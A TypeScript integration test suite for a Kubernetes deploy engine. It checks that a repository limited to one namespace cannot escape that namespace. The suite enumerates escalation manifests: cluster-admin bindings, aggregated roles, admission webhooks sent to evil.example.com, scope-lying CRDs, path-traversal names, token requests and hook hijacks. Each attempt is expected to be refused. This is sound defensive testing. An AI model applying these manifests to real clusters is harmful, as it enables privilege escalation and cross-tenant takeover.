import { once } from "node:events";
import { createServer } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import type { ClusterGrant, DeployStatus } from "../../src/model/deploy.ts";
import { isJsonObject, type JsonObject } from "../../src/model/json.ts";
import type { OpenCluster } from "../../src/model/kube.ts";
import { applyEngine } from "../../src/reconcile/engines/apply/index.ts";
import { configMap, desiredOf, hook, job, widgets } from "../support/apply-world.ts";
import { openTestCluster, useCluster } from "./support/cluster.ts";

// More of them, on a cluster in memory: test/reconcile/access/attacks.test.ts.

const test = useCluster();
const signal = AbortSignal.timeout(1_800_000);
const rbac = "rbac.authorization.k8s.io/v1";
const admission = "admissionregistration.k8s.io/v1";

let cluster: OpenCluster;
let bank = "";
let own = "";
beforeAll(async () => {
  cluster = await openTestCluster(test);
  [bank, own] = [`${test.namespace}-bank`, `${test.namespace}-own`];
  for (const name of [bank, own]) {
    const body = { apiVersion: "v1", kind: "Namespace", metadata: { name } };
    await test.api.send("POST", "/api/v1/namespaces", { body });
  }
});
afterAll(async () => {
  if (!test.own) for (const name of [bank, own]) await test.api.send("DELETE", `/api/v1/namespaces/${name}`);
  await cluster.close();
});

interface Attempt {
  readonly grant?: Partial<ClusterGrant>;
  readonly repositoryId?: number;
  readonly app?: string;
}

/** With the tests' own rights, which are all: nobody else refuses. */
async function deploy(
  objects: readonly JsonObject[],
  { grant, repositoryId = 7, app = "web" }: Attempt = {},
): Promise<DeployStatus> {
  const given = { repositories: ["evil/*"], environments: ["*"], namespaces: [test.namespace], ...grant };
  const engine = applyEngine(
    {
      cluster,
      lease: { confirm: async () => true },
      health: { health: async (all) => all.map(() => ({ status: "healthy", message: "", rule: "core" })) },
      clock: Date.now,
      newId: () => `operation-${Date.now()}`,
      writer: "test",
    },
    {
      repository: { owner: "evil", name: "shop" },
      repositoryId,
      environment: "prod",
      cluster: { name: "tests", namespace: own, grants: [given] },
      grant: given,
      namespace: test.namespace,
      limits: { stabilityMs: 0, waveDelayMs: 0, pollMs: 100 },
    },
  );
  for (;;) {
    const desired = { ...desiredOf({ head: JSON.stringify(objects).slice(0, 40), objects }), app, environment: "prod" };
    const { status, again } = await engine.step(desired, signal);
    if (again === undefined) return status;
    await sleep(Math.max(0, again - Date.now()));
  }
}

const object = (apiVersion: string, kind: string, name: string, more: JsonObject = {}): JsonObject => ({
  apiVersion,
  kind,
  metadata: { name },
  ...more,
});
const at = (one: JsonObject, more: JsonObject): JsonObject => ({
  ...one,
  metadata: { ...(isJsonObject(one.metadata) ? one.metadata : {}), ...more },
});
const inBank = (one: JsonObject): JsonObject => at(one, { namespace: bank });
const list = (kind: string, ...items: JsonObject[]): JsonObject => ({ apiVersion: "v1", kind, items });
const toRoot = (kind: string): JsonObject =>
  object(rbac, kind, "evil-root", {
    roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
    subjects: [{ kind: "ServiceAccount", name: "default", namespace: test.namespace }],
  });
const webhook = (kind: string): JsonObject =>
  object(admission, kind, "evil-webhook", {
    webhooks: [
      {
        name: "evil.example.com",
        clientConfig: { url: "https://evil.example.com/" },
        rules: [{ apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*"] }],
        failurePolicy: "Ignore",
        sideEffects: "None",
        admissionReviewVersions: ["v1"],
      },
    ],
  });
/** Says that a kind of the whole cluster lives in namespaces; the API server never sees it. */
const lie = (): JsonObject =>
  at(
    object("apiextensions.k8s.io/v1", "CustomResourceDefinition", "clusterrolebindings.rbac.authorization.k8s.io", {
      spec: {
        group: "rbac.authorization.k8s.io",
        scope: "Namespaced",
        names: { plural: "clusterrolebindings", singular: "x", kind: "ClusterRoleBinding", listKind: "XList" },
        versions: [{ name: "v1", served: true, storage: true, schema: { openAPIV3Schema: { type: "object" } } }],
      },
    }),
    { annotations: hook("Skip") },
  );
const definitions = "CustomResourceDefinition.apiextensions.k8s.io";

/** Each with what is deployed, and what more the operator has given. Functions: the namespaces are known later. */
const ways: readonly (readonly [string, () => readonly JsonObject[], Attempt?])[] = [
  ["another namespace", () => [inBank(configMap("x"))]],
  [
    "Kubernetes' own namespace",
    () => [at(configMap("x"), { namespace: "kube-system" })],
    { grant: { namespaces: ["*"] } },
  ],
  ["Sluice's own namespace", () => [at(configMap("x"), { namespace: own })], { grant: { namespaces: ["*"] } }],
  ["Sluice's own lease", () => [at(object("coordination.k8s.io/v1", "Lease", "x"), { namespace: own })]],
  [
    "a namespace of an app that is called *",
    () => [inBank(configMap("x"))],
    { app: "*", grant: { namespaces: ["shop-{app}"] } },
  ],
  ["a Namespace", () => [object("v1", "Namespace", "evil")], { grant: { namespaces: ["*"] } }],
  [
    "a Namespace whose name the server completes",
    () => [{ apiVersion: "v1", kind: "Namespace", metadata: { generateName: "kube-", annotations: hook("PreSync") } }],
    { grant: { namespaces: ["*"], clusterKinds: ["Namespace"] } },
  ],
  ["a list that hides it", () => [list("List", configMap("a"), inBank(configMap("x")))]],
  ["a list of one kind", () => [list("ConfigMapList", { metadata: { name: "x", namespace: bank } })]],
  ["a list in a list", () => [list("List", list("List", inBank(configMap("x"))))]],
  ["all rights in the cluster", () => [toRoot("ClusterRoleBinding")], { grant: { clusterKinds: ["*"] } }],
  ["all rights in its namespace, of Sluice's own", () => [toRoot("RoleBinding")]],
  ["all rights in another namespace", () => [inBank(toRoot("RoleBinding"))]],
  [
    "a role that is added to everybody's",
    () => [
      at(object(rbac, "ClusterRole", "evil-role", { rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }] }), {
        labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" },
      }),
    ],
  ],
  ["a hook in another namespace", () => [inBank(job("x", hook("PreSync")))]],
  ["a hook on failure in another namespace", () => [inBank(job("x", hook("SyncFail")))]],
  ["an object elsewhere that is skipped", () => [inBank(configMap("x", {}, hook("Skip")))]],
  ["a hook of the whole cluster", () => [at(toRoot("ClusterRoleBinding"), { annotations: hook("PreSync") })]],
  ["a definition of a kind", () => [widgets()]],
  [
    "a definition that says a kind lives elsewhere",
    () => [lie(), toRoot("ClusterRoleBinding")],
    { grant: { clusterKinds: [definitions] } },
  ],
  ["an API of its own", () => [object("apiregistration.k8s.io/v1", "APIService", "v1.evil.example.com")]],
  ["a webhook that sees what is written", () => [webhook("ValidatingWebhookConfiguration")]],
  ["a webhook that changes what is written", () => [webhook("MutatingWebhookConfiguration")]],
  ["a policy for what may be written", () => [object(admission, "ValidatingAdmissionPolicy", "evil-policy")]],
  ["a disk of a node", () => [object("v1", "PersistentVolume", "evil-disk")]],
  [
    "a disk of a node, by naming a namespace",
    () => [at(object("v1", "PersistentVolume", "evil-disk"), { namespace: "x" })],
  ],
  ["a node", () => [object("v1", "Node", "evil-node")]],
  ["a certificate of another", () => [object("certificates.k8s.io/v1", "CertificateSigningRequest", "evil-request")]],
  ["a token of another account", () => [object("authentication.k8s.io/v1", "TokenRequest", "default")]],
  ["the end of another's Pod", () => [inBank(object("policy/v1", "Eviction", "x"))]],
  ["a name that is a path", () => [object("v1", "ConfigMap", `../../${bank}/configmaps/x`)]],
  ["a namespace that is a path", () => [at(configMap("x"), { namespace: `${test.namespace}/../${bank}` })]],
  ["a group that is a path", () => [object("apps/v1/../../api/v1", "ConfigMap", "x")]],
  ["the label of another set", () => [at(configMap("x"), { labels: { "applyset.kubernetes.io/part-of": "y" } })]],
  ["to be the parent of a set", () => [at(configMap("x"), { labels: { "applyset.kubernetes.io/id": "y" } })]],
  ["the mark of another's hook", () => [configMap("x", {}, { "sluice.dev/set": "y" })]],
];

const collections = [
  ...["configmaps", "namespaces", "persistentvolumes", "nodes"].map((plural) => `/api/v1/${plural}`),
  ...["clusterroles", "clusterrolebindings", "roles", "rolebindings"].map((plural) => `/apis/${rbac}/${plural}`),
  "/apis/batch/v1/jobs",
  "/apis/coordination.k8s.io/v1/leases",
  "/apis/apiextensions.k8s.io/v1/customresourcedefinitions",
  "/apis/apiregistration.k8s.io/v1/apiservices",
  "/apis/certificates.k8s.io/v1/certificatesigningrequests",
  ...["validating", "mutating"].map((kind) => `/apis/${admission}/${kind}webhookconfigurations`),
  `/apis/${admission}/validatingadmissionpolicies`,
];
const items = z.object({ items: z.array(z.object({ metadata: z.object({ name: z.string() }) })) });

/** What of the attempts is anywhere in the cluster: all that is deployed is labelled. */
async function reached(): Promise<readonly string[]> {
  const found = [];
  for (const path of collections) {
    const { body } = await test.api.send("GET", `${path}?labelSelector=evil%3D${test.namespace}`);
    found.push(...items.parse(body).items.map(({ metadata }) => `${path}/${metadata.name}`));
  }
  return found;
}

const fields = z.record(z.string(), z.json());
const known = z.object({
  metadata: z.object({ uid: z.string(), labels: fields.optional(), annotations: fields.optional() }),
  data: fields.optional(),
  spec: fields.optional(),
});

/** What somebody wants of an object; its controller goes on with the rest. */
async function wanted(path: string): Promise<z.infer<typeof known>> {
  return known.parse((await test.api.send("GET", path)).body);
}

function labelled(one: JsonObject): JsonObject {
  if (Array.isArray(one.items))
    return { ...one, items: one.items.map((item) => (isJsonObject(item) ? labelled(item) : item)) };
  const { labels } = isJsonObject(one.metadata) ? one.metadata : {};
  return at(one, { labels: { ...(isJsonObject(labels) ? labels : {}), evil: test.namespace } });
}

describe("a repository that is given one namespace of a real cluster reaches nothing else", () => {
  it(`in any of ${ways.length} ways, and nothing of it is written (40)`, async () => {
    for (const [way, objects, attempt] of ways) {
      const status = await deploy([configMap("own"), ...objects()].map(labelled), attempt);
      expect(status, way).toMatchObject({ state: "failed", failure: { applied: false } });
    }
    expect(await reached()).toEqual([]);
    expect(await deploy([labelled(configMap("own"))])).toMatchObject({ state: "live" });
    expect(await reached()).toEqual(["/api/v1/configmaps/own"]);
  });

  it("by the objects of another app, its hooks, owners and finalizers", async () => {
    const theirs = [configMap("theirs", { by: "victim" }), job("migrate", hook("PreSync"))];
    expect(await deploy(theirs, { repositoryId: 8, app: "victim" })).toMatchObject({ state: "live" });
    const path = `/api/v1/namespaces/${test.namespace}/configmaps/theirs`;
    const jobs = `/apis/batch/v1/namespaces/${test.namespace}/jobs/migrate`;
    const before = [await wanted(path), await wanted(jobs)];
    expect(await deploy([configMap("theirs", { by: "evil" })], { app: "thief" })).toMatchObject({
      failure: { problems: [{ reason: "OwnedByAnother" }] },
    });
    expect(await deploy([job("migrate", hook("PreSync"))], { app: "thief" })).toMatchObject({
      failure: { kind: "hook" },
    });
    const uid = before[0]?.metadata.uid ?? "";
    const ownerReferences = [{ apiVersion: "v1", kind: "ConfigMap", name: "theirs", uid, blockOwnerDeletion: true }];
    const tied = at(configMap("tied"), { ownerReferences, finalizers: ["evil.example.com/held"] });
    expect(await deploy([tied], { app: "tied" })).toMatchObject({ state: "live" });
    expect([await wanted(path), await wanted(jobs)]).toEqual(before);
  });

  it("by a kubeconfig in a Secret: nobody connects there", async () => {
    let connections = 0;
    const trap = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await once(trap.listen(0, "127.0.0.1"), "listening");
    const address = trap.address();
    const server = `https://127.0.0.1:${typeof address === "object" ? address?.port : 0}`;
    const labels = { "argocd.argoproj.io/secret-type": "cluster" };
    const secret = at(object("v1", "Secret", "cluster", { stringData: { name: "evil", server, config: "{}" } }), {
      labels,
    });
    expect(await deploy([secret], { app: "clusters" })).toMatchObject({ state: "live" });
    trap.close();
    expect(connections).toBe(0);
  });

  it("by a role that gives more than the account has that it is applied as", async () => {
    const account = `${test.namespace}/deployer`;
    const mine = { apiGroups: [""], resources: ["configmaps"], verbs: ["get", "list", "create", "patch"] };
    const roles = { apiGroups: ["rbac.authorization.k8s.io"], resources: ["roles"], verbs: mine.verbs };
    await test.apply({ apiVersion: "v1", kind: "ServiceAccount", metadata: { name: "deployer" } });
    await test.apply({ apiVersion: rbac, kind: "Role", metadata: { name: "deployer" }, rules: [mine, roles] });
    const roleRef = { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: "deployer" };
    const subjects = [{ kind: "ServiceAccount", name: "deployer", namespace: test.namespace }];
    await test.apply({ apiVersion: rbac, kind: "RoleBinding", metadata: { name: "deployer" }, roleRef, subjects });
    const more = { ...mine, resources: ["secrets"] };
    const attempt = { grant: { serviceAccount: account }, app: "roles" };
    expect(await deploy([object(rbac, "Role", "more", { rules: [more] })], attempt)).toMatchObject({
      state: "failed",
      failure: { applied: false },
    });
    expect(await deploy([object(rbac, "Role", "same", { rules: [mine] })], attempt)).toMatchObject({ state: "live" });
  });
});
